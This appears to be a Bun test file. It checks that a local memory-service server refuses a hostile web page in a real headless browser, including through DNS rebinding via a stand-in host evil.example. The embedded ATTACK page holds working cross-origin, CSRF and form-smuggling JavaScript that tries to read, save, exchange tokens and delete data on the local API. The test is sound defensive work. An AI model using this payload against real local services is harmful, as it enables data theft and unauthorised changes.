// A real browser on a hostile page beside us: whatever the page tries on our port, nothing gets through and nothing is read.
import { afterAll, beforeAll, expect, test } from 'bun:test';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openTestServer, type TestServer } from '../support/web-server.ts';

const CHROMIUM = '/usr/bin/chromium';

let door: TestServer;
let profile: string;
beforeAll(async () => {
  door = await openTestServer();
  profile = mkdtempSync(join(tmpdir(), 'cmem-browser-'));
});
afterAll(async () => {
  await door.close();
  rmSync(profile, { recursive: true, force: true });
});

/** Every name that ends in .example is this machine, as after a rebinding of DNS. */
const browse = (...args: string[]) => {
  const flags = ['--headless', '--no-sandbox', '--disable-gpu', `--user-data-dir=${profile}`];
  const rules = '--host-resolver-rules=MAP *.example 127.0.0.1';
  return Bun.spawn([CHROMIUM, ...flags, rules, ...args], { stdout: 'pipe', stderr: 'ignore' });
};

/** What the page shows. */
async function visit(url: string): Promise<string> {
  const child = browse('--dump-dom', url);
  const page = await new Response(child.stdout).text();
  await child.exited;
  return page;
}

const ATTACK = `<!doctype html><body><iframe name="frame"></iframe>
<form id="form" method="post" target="frame" enctype="text/plain"><input name='{"text":"' value='evil"}'></form>
<script>
const told = {};
const our = location.search.slice(1);
const json = { 'Content-Type': 'application/json' };
const attempt = async (name, run) => { try { told[name] = String(await run()); } catch { told[name] = 'refused'; } };
const load = (tag, path) => new Promise((resolve, reject) => {
  const element = Object.assign(document.createElement(tag), { src: our + path, onload: () => resolve('loaded'), onerror: reject });
  document.body.append(element);
});
const connect = (source, event) => new Promise((resolve, reject) => { source['on' + event] = () => resolve('open'); source.onerror = reject; });
(async () => {
  await attempt('read', async () => (await fetch(our + '/health')).text());
  await attempt('page', async () => (await fetch(our + '/')).text());
  await attempt('save', async () => (await fetch(our + '/api/memory/save', { method: 'POST', headers: json, body: '{}' })).status);
  await attempt('token', async () => (await fetch(our + '/api/token/exchange', { method: 'POST', headers: json, body: '{"code":"x"}' })).status);
  await attempt('remove', async () => (await fetch(our + '/api/observations/7', { method: 'DELETE' })).status);
  await attempt('blind', async () => (await fetch(our + '/health', { mode: 'no-cors' })).type);
  await attempt('script', () => load('script', '/assets/app.js'));
  await attempt('image', () => load('img', '/favicon.svg'));
  await attempt('events', () => connect(new EventSource(our + '/stream'), 'open'));
  await attempt('socket', () => connect(new WebSocket(our.replace('http', 'ws') + '/stream'), 'open'));
  navigator.sendBeacon(our + '/api/memory/save', new Blob(['{}'], { type: 'text/plain' }));
  const form = document.getElementById('form');
  form.action = our + '/api/memory/save';
  form.submit();
  setTimeout(() => fetch('/told', { method: 'POST', body: JSON.stringify(told) }), 300);
})();
</script>`;

const TRIED = ['read', 'page', 'save', 'token', 'remove', 'script', 'image', 'events', 'socket'];

type Told = Record<string, string>;

/** What the hostile page has to tell when it has tried everything. */
async function attackFrom(name: string): Promise<Told> {
  const { promise, resolve } = Promise.withResolvers<Told>();
  const page = Bun.serve({
    hostname: '127.0.0.1',
    port: 0,
    fetch: async (request) => {
      if (request.method === 'POST') resolve((await request.json()) as Told);
      return new Response(ATTACK, { headers: { 'Content-Type': 'text/html' } });
    },
  });
  // With its debugging port it stays until it is ended.
  const child = browse('--remote-debugging-port=0', `http://${name}:${page.port}/?${door.server.address}`);
  const told = await promise;
  child.kill();
  await child.exited;
  await page.stop(true);
  return told;
}

test.skipIf(!existsSync(CHROMIUM)).each(['127.0.0.1', 'evil.example'])(
  'a page of %s, on another port, reaches nothing',
  async (name) => {
    const { blind = '', ...told } = await attackFrom(name);
    // It may be sent, blindly; the browser hides what came back, and the guard had refused it.
    expect(['opaque', 'refused']).toContain(blind);
    expect(told).toEqual(Object.fromEntries(TRIED.map((one) => [one, 'refused'])));
    expect(door.reached).toEqual([]);
  },
  240_000,
);

test.skipIf(!existsSync(CHROMIUM))(
  'a name that was made to resolve to us is refused, our own is served',
  async () => {
    expect(await visit(`http://evil.example:${door.port}/`)).toContain('This host name is not served.');
    expect(await visit(`http://evil.example:${door.port}/health`)).not.toContain('isTrusted');
    expect(door.reached).toEqual([]);
    expect(await visit(`http://localhost:${door.port}/health`)).toContain('isTrusted');
    expect(await visit(`http://127.0.0.1:${door.port}/view/search`)).toContain('<title>viewer</title>');
  },
  240_000,
);
